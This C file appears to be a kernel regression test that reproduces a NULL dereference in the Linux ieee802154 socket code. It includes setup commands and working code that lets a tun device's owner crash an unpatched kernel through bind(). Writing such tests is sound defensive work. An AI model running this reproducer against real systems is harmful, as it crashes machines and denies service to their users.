// SPDX-License-Identifier: GPL-2.0
/*
 * ieee802154: socket: NULL dereference on an ARPHRD_IEEE802154 device
 * without a wpan_dev, reached by a user who owns a tun device.
 * Fix: ieee802154: socket: fix NULL deref on ARPHRD_IEEE802154 devices without a wpan_dev
 *
 * As root, once (what "ip tuntap ... user" leaves on a machine):
 *
 *   ip tuntap add dev tun154 mode tun user nobody
 *
 * Then, as that user (a distribution's /dev/net/tun is 0666):
 *
 *   cc -Wall -Wextra -o ieee802154_socket_tun ieee802154_socket_tun.c
 *   setpriv --reuid=nobody --regid=nogroup --clear-groups ./ieee802154_socket_tun
 *
 * TUNSETLINK makes tun154 of type ARPHRD_IEEE802154; bind() of an
 * AF_IEEE802154 DGRAM socket (no capability needed) to a short address
 * makes ieee802154_get_dev() read tun154's ieee802154_ptr->pan_id, a
 * NULL pointer.  An unfixed kernel oopses in bind(); a fixed one returns
 * ENODEV and this program exits 0.  Exit 1: a step before bind() failed.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>
#include <linux/if.h>
#include <linux/if_arp.h>
#include <linux/if_tun.h>

#define AF_IEEE802154_		36
#define IEEE802154_ADDR_SHORT	2

struct sockaddr_ieee802154 {	/* include/net/af_ieee802154.h */
	unsigned short family;
	struct {
		int addr_type;
		uint16_t pan_id;
		union {
			uint8_t hwaddr[8];
			uint16_t short_addr;
		};
	} addr;
};

int main(int argc, char **argv)
{
	const char *dev = argc > 1 ? argv[1] : "tun154";
	struct sockaddr_ieee802154 a = {
		.family = AF_IEEE802154_,
		.addr = { .addr_type = IEEE802154_ADDR_SHORT,
			  .pan_id = 0x1234, .short_addr = 0x0001 },
	};
	struct ifreq ifr = { .ifr_flags = IFF_TUN | IFF_NO_PI };
	int tun, s;

	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", dev);
	tun = open("/dev/net/tun", O_RDWR);
	if (tun < 0 || ioctl(tun, TUNSETIFF, &ifr) ||
	    ioctl(tun, TUNSETLINK, (unsigned long)ARPHRD_IEEE802154)) {
		perror("tun");
		return 1;
	}
	s = socket(AF_IEEE802154_, SOCK_DGRAM, 0);
	if (s < 0) {
		perror("socket(AF_IEEE802154)");
		return 1;
	}
	printf("bind() of an AF_IEEE802154 socket with %s of type %d...\n",
	       dev, ARPHRD_IEEE802154);
	fflush(stdout);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) == 0 || errno != ENODEV) {
		printf("bind: %s, want ENODEV\n", strerror(errno));
		return 1;
	}
	printf("bind: ENODEV: not affected\n");
	return 0;
}
